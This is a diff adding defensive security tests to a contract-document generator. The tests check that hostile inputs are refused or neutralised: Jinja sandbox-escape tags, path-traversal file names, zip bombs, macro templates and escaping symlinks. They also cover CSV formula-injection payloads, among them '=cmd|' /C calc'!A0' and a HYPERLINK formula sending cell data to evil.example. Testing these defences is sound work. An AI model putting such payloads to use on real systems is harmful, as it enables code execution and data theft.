@@ -137,7 +137,12 @@ JINJA_CASES = {
     "endless-loop.j2": (False, "rendering took longer than 2 seconds (a loop too large?)"),
     "dunder.j2": (False, "access to attribute '__class__' of 'str' object is unsafe"),
     "division-by-zero.j2": (False, "cannot work out 1 / 0: division by zero"),
+    "undefined-in-list.j2": (False, "access to attribute '__class__' of 'int' object is unsafe"),
+    "missing-in-list.j2": (False, "'int object' has no attribute 'nothing'"),
+    "sum-of-number.j2": (False, "the filter sum cannot be used here: 'int' object is not iterable"),
 }
+#: Where a Word template words the rule differently (it names values, not Python types).
+WORD_RULES = {"missing-in-list.j2": "there is no value named 'nothing' there"}
 
 
 def jinja(name: str) -> str:
@@ -165,9 +170,10 @@ def test_hostile_jinja_in_clause_text(ws: Path, name: str):
 def test_hostile_jinja_in_a_word_template(ws: Path, name: str):
     corpus = build_corpus()
     source = jinja(name)
-    body = corpus.document(escape(source))
+    body = corpus.document("{{p schedule_body }}", b"", escape(source))
     (ws / "templates/schedule.docx").write_bytes(corpus.docx({"word/document.xml": body}))
     at_compile, rule = JINJA_CASES[name]
+    rule = WORD_RULES.get(name, rule)
     where = "templates/schedule.docx: body" + ("" if name == "recursion.j2" else f', paragraph "{source[:80]}"')
     if at_compile:  # the problem already says what failed
         expected = [f"{where}: {rule}"]
@@ -201,6 +207,14 @@ TEMPLATE_CASES = {
     "zip-bomb.docx": "the package member word/media/filler.bin expands 1025 times (more than 200): it looks like a zip bomb; {resave}",
     "path-traversal.docx": "the package holds a file named '../../evil.txt', which points outside the package; {resave}",
     "too-many-members.docx": "the package holds 2004 files, more than the limit of 2000; {resave}",
+    "macro.docx": (
+        "the template holds macros (word/vbaProject.bin), and contractgen never copies a macro into the documents "
+        "it writes; in Word, save it as 'Word Document (.docx)', not as a macro-enabled document (.docm or .dotm)"
+    ),
+    "two-documents.docx": (
+        "the package holds two files named word/document.xml, so it is not clear which one counts (programs "
+        "disagree); {resave}"
+    ),
 }
 
 
@@ -214,6 +228,47 @@ def test_hostile_word_template(ws: Path, name: str):
     assert refused(*LETTERS, "--no-dspt") == [f"templates/letter.docx: {message}"]
     assert files_under(ws / "out") == []
     assert not (ws.parent / "evil.txt").exists()
+
+
+BARE = (
+    "{{{{ {0} }}}} holds {1} of Word XML, so it must be written {{{{{2} {0} }}}} ({3}); without the {2} Word "
+    "cannot open the document"
+)
+PARAGRAPHS = ("whole paragraphs", "p", "alone in its own paragraph")
+#: file -> (the kind of template it is, its first problem)
+BODY_CASES = {
+    "bare-schedule-body.docx": ("schedule", 'body, paragraph "Schedule: {{ schedule_body }}": ' + BARE.format("schedule_body", *PARAGRAPHS)),
+    "bare-letter-body.docx": ("letter", 'body, paragraph "{{ letter_body }}": ' + BARE.format("letter_body", *PARAGRAPHS)),
+    "bare-logo.docx": (
+        "schedule", 'body, paragraph "{{ council.logo }}": ' + BARE.format("council.logo", "a picture", "r", "inside a paragraph"),
+    ),
+    "no-schedule-body.docx": (
+        "schedule",
+        "a schedule template must place the clauses: it has no {{p schedule_body }}; type it alone in the paragraph "
+        "where they go (docs/branding.md 'Template variables')",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BODY_CASES))
+def test_a_template_that_would_write_broken_or_empty_documents(ws: Path, name: str):
+    kind, problem = BODY_CASES[name]
+    shutil.copy(HOSTILE / "templates" / name, ws / f"templates/{kind}.docx")
+    expected = f"templates/{kind}.docx: {problem}"
+    command = ("schedule", "example-borough") if kind == "schedule" else (*LETTERS, "--no-dspt")
+    assert refused(*command)[0] == expected
+    assert expected in refused("validate")
+    assert files_under(ws / "out") == []
+
+
+def test_a_letter_template_must_place_the_letter_body(ws: Path):
+    shutil.copy(HOSTILE / "templates/no-schedule-body.docx", ws / "templates/letter.docx")
+    expected = (
+        "templates/letter.docx: a letter template must place the letter's wording: it has no {{p letter_body }}; "
+        "type it alone in the paragraph where they go (docs/branding.md 'Template variables')"
+    )
+    assert refused(*LETTERS, "--no-dspt")[0] == expected
+    assert expected in refused("validate")
 
 
 #: textconv (git diff) reads documents leniently: what it cannot read it says so.
@@ -242,6 +297,10 @@ TEXTCONV_CASES = {
     ),
     "too-many-members.docx": (
         "d.docx: the package holds 2004 files, more than the limit of 2000; open it in Word and save it again as .docx"
+    ),
+    "two-documents.docx": (
+        "d.docx: the package holds two files named word/document.xml, so it is not clear which one counts (programs "
+        "disagree); open it in Word and save it again as .docx"
     ),
 }
 
@@ -291,6 +350,10 @@ def test_hostile_register(ws: Path, name: str):
 
 DATE_FIX = "write it as dd/mm/yyyy (e.g. 30/06/2025) or leave it blank"
 EXCEL_DATE = "Excel stores {!r} here as a date that does not exist; type the date again as dd/mm/yyyy, or clear the cell"
+OUT_OF_RANGE = (
+    "the date {} cannot be a DSPT publication date (they fall between 2000 and 2099; Excel shows a date number "
+    "below 1 as 1899 or 1900); type the date again as dd/mm/yyyy, or leave it blank"
+)
 EXPORT_CASES = {
     "impossible-date.csv": f"2: Date Of Publication: the date '31/02/2026' does not exist (check the day, the month and the year); {DATE_FIX}",
     "zero-date.csv": f"2: Date Of Publication: the date '00/00/0000' does not exist (check the day, the month and the year); {DATE_FIX}",
@@ -303,6 +366,12 @@ EXPORT_CASES = {
         "line 3, column 476); save it again as .xlsx"
     ),
     "damaged-sheet.xlsx": " cannot open the Excel workbook (no element found: line 2, column 317); save it again as .xlsx",
+    "negative-date-number.xlsx": f"2: Date Of Publication: {OUT_OF_RANGE.format('25/12/1899')}",
+    "year-9999.csv": f"2: Date Of Publication: {OUT_OF_RANGE.format('31/12/9999')}",
+    "nul-byte.csv": (
+        "2: Organisation Name: contains the control character U+0000, which a Word letter cannot hold; the export "
+        "is damaged: download it again"
+    ),
 }
 #: Files that cannot be read at all: one line, no row problems.
 UNREADABLE = {"zip-bomb.xlsx", "entity-expansion.xlsx", "damaged-sheet.xlsx"}
@@ -318,6 +387,8 @@ def test_hostile_dspt_export(ws: Path, name: str):
         assert lines[1:] == []
     else:
         assert lines[1:] == [f"error: {shown}: 1 problem in the DSPT export; correct it or download the export again"]
+    overview = ("overview", "example-borough", "-p", "examples/example-borough-providers.csv", "--as-of", "2026-11-26")
+    assert refused(*overview, "--dspt", shown)[0] == lines[0]
     assert files_under(ws / "out") == []
 
 
@@ -352,5 +423,383 @@ def test_the_readme_lists_the_limits():
         f"above {untrusted.MAX_ARGUMENT} passed", f"{untrusted.MAX_VALUE_CHARS} characters or items",
         f"{untrusted.MAX_RENDER_CHARS} characters out", f"{untrusted.MAX_RENDER_SECONDS:g} seconds per render",
         f"CSV at most {untrusted.MAX_TABLE_BYTES // 1_000_000} MB", f"at most {untrusted.MAX_IMAGE_BYTES // 1_000_000} MB",
+        f"at most {untrusted.MAX_TABLE_ROWS} rows", f"at most {untrusted.MAX_CLAUSE_CHARS} characters per clause",
+        f"{untrusted.MAX_CLAUSE_RENDERED_CHARS} characters of Markdown", f"{untrusted.MAX_IMAGE_SIDE} pixels a side",
+        f"{untrusted.MAX_IMAGE_PIXELS} in all",
     ):
         assert value in section, value
+
+
+# ------------------------------------------------------------------------------- CSV outputs
+
+#: What a spreadsheet evaluates when a cell begins with it (OWASP "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+
+
+def assert_no_formula(path: Path) -> None:
+    for row in csv_cells(path):
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
+
+
+def test_formula_names_are_neutralised_in_the_letters_csv_files(ws: Path):
+    shutil.copy(HOSTILE / "registers/formula-names.csv", ws / "examples/formula-names.csv")
+    result = run_cli("letters", "example-borough", "-p", "examples/formula-names.csv",
+                     "--dspt", "examples/dspt-export-example.csv", "--as-of", "2026-11-26")
+    assert result.exit_code == 0, result.output
+    out = ws / "out/example-borough-letters"
+    for name in ("report.csv", "unmatched.csv"):
+        assert_no_formula(out / name)
+    names = [row[1] for row in csv_cells(out / "report.csv")[1:]]
+    assert names == ["'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+1+1"]
+    assert csv_cells(out / "unmatched.csv")[1] == ["Q9Q9Q", "'+1+1", "start letter", ""]
+
+
+def test_formula_names_are_neutralised_in_the_referrals_and_text_in_the_workbook(ws: Path):
+    import openpyxl
+
+    shutil.copy(HOSTILE / "registers/formula-names.csv", ws / "examples/formula-names.csv")
+    result = run_cli("overview", "example-borough", "-p", "examples/formula-names.csv",
+                     "--dspt", "examples/dspt-export-example.csv", "--as-of", "2026-11-26")
+    assert result.exit_code == 0, result.output
+    out = ws / "out/example-borough-overview"
+    assert_no_formula(out / "lso-referrals.csv")
+    rows = csv_cells(out / "lso-referrals.csv")
+    assert [r[7] for r in rows[1:]] == ["'=1+1", "'-2+3", "tab"]  # contact_name
+    assert [r[9] for r in rows[1:]] == ["'@SUM(1)", "'+44 Road", "'-5"]  # address
+    book = openpyxl.load_workbook(out / "overview.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert "=cmd|' /C calc'!A0" in [c.value for c in cells if c.data_type == "s"]
+    assert not [c for c in cells if c.data_type == "f"]
+
+
+def test_audit_scores_written_with_an_apostrophe_are_read_back_without_it(tmp_path: Path):
+    from contractgen.audit.score import latest_audit_scores
+    from contractgen.base.csvout import csv_bytes
+
+    header = ["ods_code", "provider", "overall", "critical_gaps", "version", "completed_on", "scored_on"]
+    path = tmp_path / "audit-scores.csv"
+    path.write_bytes(csv_bytes(header, [["VM1A2", "=HYPERLINK(\"x\")", 80, "", "1.0", "2026-05-01", "2026-05-02"]]))
+    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
+    assert latest_audit_scores([path])["VM1A2"].provider == "=HYPERLINK(\"x\")"
+
+
+# ------------------------------------------------------------------------------- links
+
+@pytest.mark.parametrize("link", ["contractgen.yaml", "profiles", "clause_library/clauses", ".gitignore"])
+def test_init_force_never_writes_through_a_link_that_leaves_the_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str):
+    monkeypatch.chdir(tmp_path)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("keep me\n", encoding="utf-8")
+    (tmp_path / "NEW" / link).parent.mkdir(parents=True)
+    target = outside / "secret.txt" if "." in link else outside
+    (tmp_path / "NEW" / link).symlink_to(target)
+    message = (
+        f"NEW/{link}: a link to {target}, outside NEW; init writes only inside the folder it is given: "
+        "remove the link, or choose another folder"
+    )
+    for who in ("AUTHOR", "COMMITTER"):
+        monkeypatch.setenv(f"GIT_{who}_NAME", "Lead")
+        monkeypatch.setenv(f"GIT_{who}_EMAIL", "lead@example.org")
+    assert refused("init", "NEW", "--force") == [message]
+    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
+    assert (outside / "secret.txt").read_text(encoding="utf-8") == "keep me\n"
+
+
+def test_init_force_follows_a_link_that_stays_inside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "NEW").mkdir()
+    (tmp_path / "NEW/contractgen.yaml").symlink_to("own.yaml")
+    assert run_cli("init", "NEW", "--force", "--no-git").exit_code == 0
+    assert "council" in (tmp_path / "NEW/own.yaml").read_text(encoding="utf-8")
+
+
+# ------------------------------------------------------------------------------- logos
+
+LOGO = "profiles/example-borough.yaml:10:3: council.logo: the logo cannot be used: {}; export the logo again as PNG"
+LOGO_CASES = {
+    "huge-header.png": "it claims more pixels than a logo needs (at most 10,000 pixels a side and 25,000,000 in all)",
+    "truncated.png": "the image is damaged or cut short (image file is truncated)",
+    "not-an-image.png": "it is not a PNG or JPEG image",
+}
+
+
+@pytest.mark.parametrize("name", sorted(LOGO_CASES))
+def test_hostile_logo(ws: Path, name: str):
+    shutil.copy(HOSTILE / "logos" / name, ws / "profiles/logos/example-borough.png")
+    problem = LOGO.format(LOGO_CASES[name])
+    assert refused("schedule", "example-borough")[0] == problem
+    assert refused(*LETTERS, "--no-dspt")[0] == problem
+    assert refused("validate")[0] == problem
+    assert files_under(ws / "out") == []
+
+
+def test_a_very_wide_logo_is_shown_at_the_page_width(ws: Path):
+    import zipfile
+
+    corpus = build_corpus()
+    (ws / "profiles/logos/example-borough.png").write_bytes(corpus.png(9000, 1, b"\0" + b"\x80" * 9000))
+    assert run_cli("schedule", "example-borough", "-o", "s.docx").exit_code == 0
+    with zipfile.ZipFile(ws / "s.docx") as z:
+        body = z.read("word/document.xml").decode()
+    assert '<wp:extent cx="5760000" cy="640"/>' in body  # 16 cm wide, height in proportion
+
+
+def test_validate_renders_a_letter_template_as_letters_does(ws: Path):
+    corpus = build_corpus()
+    body = corpus.document("{{p letter_body }}", b"", "{{ provider.__class__.__init__.__globals__ }}")
+    (ws / "templates/letter.docx").write_bytes(corpus.docx({"word/document.xml": body}))
+    rule = "access to attribute '__class__' of 'dict' object is unsafe"
+    expected = (
+        'templates/letter.docx: body, paragraph "{{ provider.__class__.__init__.__globals__ }}": the template '
+        f"cannot be rendered: {rule}; fix the tag in Word (docs/branding.md 'Template variables')"
+    )
+    assert refused(*LETTERS, "--no-dspt")[0] == expected
+    assert expected in refused("validate")
+
+
+@pytest.mark.parametrize("path", ["../../../../etc/passwd", "/etc/passwd", "sub/schedule.docx", "..\\evil.docx"])
+def test_a_template_path_in_a_profile_stays_in_the_templates_folder(ws: Path, path: str):
+    profile = ws / "profiles/example-borough.yaml"
+    profile.write_text(profile.read_text(encoding="utf-8") + f"templates:\n  schedule: '{path}'\n", encoding="utf-8")
+    line = len(profile.read_text(encoding="utf-8").splitlines())
+    problem = (
+        f"profiles/example-borough.yaml:{line}:3: templates.schedule: {path!r} is not a file name in the templates "
+        "folder; name the template by its file name alone, such as schedule.docx, and keep the file in the "
+        "workspace's templates folder"
+    )
+    assert refused("schedule", "example-borough")[0] == problem
+    assert refused("validate")[0] == problem
+
+
+# ------------------------------------------------------------------------------- audit scores
+
+NEVER = ", which `contractgen audit score` never writes; write the file again with it"
+AUDIT_SCORE_CASES = {
+    "overall-250.csv": "overall: the overall score 250 is not a percentage from 0 to 100" + NEVER,
+    "negative-gaps.csv": "critical_gaps: '-3' is not a question id" + NEVER,
+    "completed-9999.csv": "completed_on: the date 9999-12-31 is not between 2000 and 2099" + NEVER,
+}
+
+
+@pytest.mark.parametrize("name", sorted(AUDIT_SCORE_CASES))
+def test_hostile_audit_scores(ws: Path, name: str):
+    shutil.copy(HOSTILE / "audit-scores" / name, ws / "examples/audit-scores.csv")
+    args = ("overview", "example-borough", "-p", "examples/example-borough-providers.csv",
+            "--dspt", "examples/dspt-export-example.csv", "--as-of", "2026-11-26")
+    assert refused(*args, "--audit-scores", "examples/audit-scores.csv") == [
+        f"examples/audit-scores.csv:2: {AUDIT_SCORE_CASES[name]}"
+    ]
+    assert files_under(ws / "out") == []
+
+
+def test_a_form_completed_on_9999_12_31_is_refused():
+    from contractgen.audit.read import ControlValue
+    from contractgen.audit.score import _control_date
+
+    assert _control_date(ControlValue("31/12/9999", "9999-12-31T00:00:00Z")) == (
+        None, "9999-12-31 is not between 2000 and 2099; pick the date with the date picker"
+    )
+    assert _control_date(ControlValue("1 May 2026", "2026-05-01T00:00:00Z"))[0] is not None
+
+
+# ------------------------------------------------------------------------------- profile values
+
+@pytest.mark.parametrize("file, old, new, problem", [
+    ("profiles/example-borough.yaml", "schedule_number: 12", "schedule_number: 1000000000000000000000000000000",
+     "profiles/example-borough.yaml:15:3: contract.schedule_number: 1000000000000000000000000000000 is not a schedule "
+     "number; give a number from 1 to 9999, or text such as 7A"),
+    ("profiles/regions/north-west.yaml", "email: dspt-support@northshire-care.example.org",
+     "email: x@y.org?bcc=evil@evil.example",
+     "profiles/regions/north-west.yaml:7:5: contacts.lso.email: 'x@y.org?bcc=evil@evil.example' is not an email "
+     "address; write the address alone, such as dspt@council.gov.uk (no spaces, no ? or other link parts)"),
+])
+def test_hostile_profile_value(ws: Path, file: str, old: str, new: str, problem: str):
+    path = ws / file
+    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
+    assert refused("schedule", "example-borough")[0] == problem
+    assert refused("validate")[0] == problem
+
+
+# ------------------------------------------------------------------------------- dates and parameters
+
+NO_DATE = "the date {} does not exist (check the day, the month and the year); write it as YYYY-MM-DD, e.g. 2026-04-01"
+NOT_BETWEEN = "{} is not between 2000-01-01 and 2099-12-31; check the year"
+
+
+@pytest.mark.parametrize("value, problem", [
+    ("2026-02-31", "16:15: contract.start_date: " + NO_DATE.format("2026-02-31")),
+    ("0001-01-01", "16:3: contract.start_date: " + NOT_BETWEEN.format("0001-01-01")),
+    ("9999-12-31", "16:3: contract.start_date: " + NOT_BETWEEN.format("9999-12-31")),
+])
+def test_impossible_or_extreme_dates_in_a_profile(ws: Path, value: str, problem: str):
+    profile = ws / "profiles/example-borough.yaml"
+    profile.write_text(profile.read_text(encoding="utf-8").replace("start_date: 2026-04-01", f"start_date: {value}"), encoding="utf-8")
+    assert refused("schedule", "example-borough")[0] == f"profiles/example-borough.yaml:{problem}"
+    assert refused("validate")[0] == f"profiles/example-borough.yaml:{problem}"
+
+
+def test_an_impossible_date_in_the_workspace_file(ws: Path):
+    config = ws / "contractgen.yaml"
+    config.write_text(config.read_text(encoding="utf-8").replace("as_of: 2026-11-26", "as_of: 2026-02-30", 1), encoding="utf-8")
+    assert refused("validate")[0] == "contractgen.yaml:22:14: build.letters[0].as_of: " + NO_DATE.format("2026-02-30")
+
+
+@pytest.mark.parametrize("value", ["9999-12-31", "0001-01-01"])
+def test_an_extreme_as_of_is_a_usage_error(ws: Path, value: str):
+    for command in (LETTERS[:4] + ("--no-dspt",), ("overview", "example-borough", "-p", LETTERS[3], "--dspt", "examples/dspt-export-example.csv")):
+        result = run_cli(*command, "--as-of", value)
+        assert result.exit_code == 2
+        assert result.stderr.splitlines()[-1] == f"Error: Invalid value for '--as-of': {NOT_BETWEEN.format(value)}"
+
+
+REMEDIAL_PLAN = (
+    "Working Days within which the Provider sends the Council a Remedial Plan after a shortfall, and a revised plan "
+    "after the Council asks for changes."
+)
+REMEDIAL_PERIOD = (
+    "Latest number of months after the date of a Remedial Plan by which the Provider publishes at its Tier's minimum "
+    "DSPT Status, unless the Council agrees a later date."
+)
+
+
+@pytest.mark.parametrize("setting, problem", [
+    ("remedial_plan_working_days: -5", f"remedial_plan_working_days: must be a whole number from 1 to 250 (got -5) ({REMEDIAL_PLAN})"),
+    ("remedial_period_months: 100000", f"remedial_period_months: must be a whole number from 1 to 60 (got 100000) ({REMEDIAL_PERIOD})"),
+    ("remedial_plan_working_days: 10000000", f"remedial_plan_working_days: must be a whole number from 1 to 250 (got 10000000) ({REMEDIAL_PLAN})"),
+])
+def test_a_parameter_out_of_range(ws: Path, setting: str, problem: str):
+    profile = ws / "profiles/example-borough.yaml"
+    profile.write_text(profile.read_text(encoding="utf-8") + f"parameters:\n  {setting}\n", encoding="utf-8")
+    line = len(profile.read_text(encoding="utf-8").splitlines())
+    expected = f"profiles/example-borough.yaml:{line}:3: parameters.{problem}"
+    assert refused("schedule", "example-borough")[0] == expected
+    assert refused("validate")[0] == expected
+    assert refused(*LETTERS, "--no-dspt")[0] == expected
+
+
+def test_a_nul_byte_in_a_profile(ws: Path):
+    profile = ws / "profiles/example-borough.yaml"
+    profile.write_text(profile.read_text(encoding="utf-8").replace("short_name: EBC", "short_name: E\0BC"), encoding="utf-8")
+    problem = (
+        "profiles/example-borough.yaml:5:16: contains the control character U+0000, which a YAML file cannot hold; "
+        "delete it (it is often pasted invisibly from another program)"
+    )
+    assert refused("schedule", "example-borough")[0] == problem
+    assert refused("validate")[0] == problem
+
+
+def test_git_setup_when_gitattributes_is_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    import subprocess
+
+    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
+    (tmp_path / ".gitattributes").mkdir()
+    monkeypatch.chdir(tmp_path)
+    assert refused("git-setup") == [
+        "error: .gitattributes is not a file (a folder or a broken link); git reads .gitattributes as a text file: "
+        "move it away, then run git-setup again"
+    ]
+
+
+# ------------------------------------------------------------------------------- command-line values
+
+@pytest.mark.parametrize("args, error", [
+    (("schedule", "example-borough", "-o", ""),
+     "Error: Invalid value for '--output' / '-o': is empty: give a file or folder name, such as out/schedule.docx"),
+    ((*LETTERS, "--no-dspt", "-o", " "),
+     "Error: Invalid value for '--output' / '-o': is empty: give a file or folder name, such as out/schedule.docx"),
+    (("diff", "--format", "docx", "-o", "d.docx", "--author", "a\x01b"),
+     "Error: Invalid value for '--author': contains the control character U+0001, which a Word document cannot "
+     "hold; type the name without it"),
+])
+def test_a_bad_command_line_value_is_named(ws: Path, args: tuple[str, ...], error: str):
+    result = run_cli(*args)
+    assert result.exit_code == 2
+    assert result.stderr.splitlines()[-1] == error
+    assert files_under(ws / "out") == [] and not (ws / "d.docx").exists()
+
+
+# ------------------------------------------------------------------------------- slow inputs
+
+def test_a_clause_text_over_the_limit_is_refused_quickly(ws: Path):
+    import time
+
+    clause = ws / "clause_library/clauses/dspt.support.yaml"
+    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", "text: |\n  " + "*a" * 60000 + "\n\n", 1), encoding="utf-8")
+    problem = (
+        "clause_library/clauses/dspt.support.yaml:12:1: text: the text is 121,423 characters, more than the limit of "
+        "20,000 for one clause; split it into several clauses"
+    )
+    started = time.monotonic()
+    assert refused("validate")[0] == problem
+    assert refused("schedule", "example-borough")[0] == problem
+    assert time.monotonic() - started < 10
+
+
+def test_a_clause_that_renders_too_much_markdown_is_refused(ws: Path):
+    clause = ws / "clause_library/clauses/dspt.support.yaml"
+    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", "text: |\n  {{ '*a' * 50000 }}\n\n", 1), encoding="utf-8")
+    lines = refused("schedule", "example-borough")
+    assert lines[0].startswith("clause_library/clauses/dspt.support.yaml:12:1: text: cannot render clause text: the text would be ")
+    assert lines[0].endswith(" characters, more than the limit of 50,000 for one clause; check the {{ }} tags")
+    assert refused("validate")[0] == lines[0]
+
+
+ROWS = (
+    "the table has more than 100,000 rows, more than contractgen reads (the national DSPT export has tens of "
+    "thousands); is it the right file? Filter it to the organisations you need"
+)
+
+
+def test_a_table_over_the_row_limit_is_refused_quickly(ws: Path):
+    import time
+
+    rows = "".join(f"X{i:06d},ORG {i},25/26 Standards Met,12/06/2026,Care Home\n" for i in range(100_001))
+    (ws / "examples/big.csv").write_text("Code,Organisation Name,Status,Date Of Publication,Primary Sector\n" + rows, encoding="utf-8")
+    register = "".join(f"Org {i},X{i:06d},,,,yes,core\n" for i in range(100_001))
+    (ws / "examples/big-register.csv").write_text(",".join(build_corpus().REGISTER_HEADER) + "\n" + register, encoding="utf-8")
+    overview = ("overview", "example-borough", "--as-of", "2026-11-26")
+    started = time.monotonic()
+    assert refused(*LETTERS, "--dspt", "examples/big.csv") == [f"examples/big.csv: {ROWS}"]
+    assert refused(*overview, "-p", LETTERS[3], "--dspt", "examples/big.csv") == [f"examples/big.csv: {ROWS}"]
+    assert refused(*overview, "-p", "examples/big-register.csv", "--dspt", "examples/dspt-export-example.csv") == [
+        f"examples/big-register.csv: {ROWS}"
+    ]
+    assert time.monotonic() - started < 30
+
+
+def test_validate_is_no_slower_than_the_command_on_an_endless_loop(ws: Path):
+    """One render stopped by the time limit ends the test renders: the same clause would
+    stop every other profile and tier (123 s before, for 6 renders of 20 s)."""
+    import time
+
+    clause = ws / "clause_library/clauses/dspt.support.yaml"
+    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", f"text: |\n  Bad {jinja('endless-loop.j2')} here.\n\n", 1), encoding="utf-8")
+    started = time.monotonic()
+    lines = refused("validate")
+    took = time.monotonic() - started
+    assert lines[0] == (
+        "clause_library/clauses/dspt.support.yaml:12:1: text: cannot render clause text: rendering took longer than 2 "
+        "seconds (a loop too large?); check the {{ }} tags"
+    )
+    assert len(lines) == 2
+    assert took < 2 * 2 + 8, took
+
+
+def test_schedule_never_replaces_a_file_contractgen_did_not_write(ws: Path):
+    """The overwrite rule (issue 16) against a hostile -o: someone's own document."""
+    mine = ws / "contract.docx"
+    shutil.copy(HOSTILE / "templates/macro.docx", mine)
+    before = mine.read_bytes()
+    assert refused("schedule", "example-borough", "-o", "contract.docx") == [
+        "error: contract.docx already exists and contractgen did not write it; use --force to overwrite it, or "
+        "choose another file with -o"
+    ]
+    assert mine.read_bytes() == before
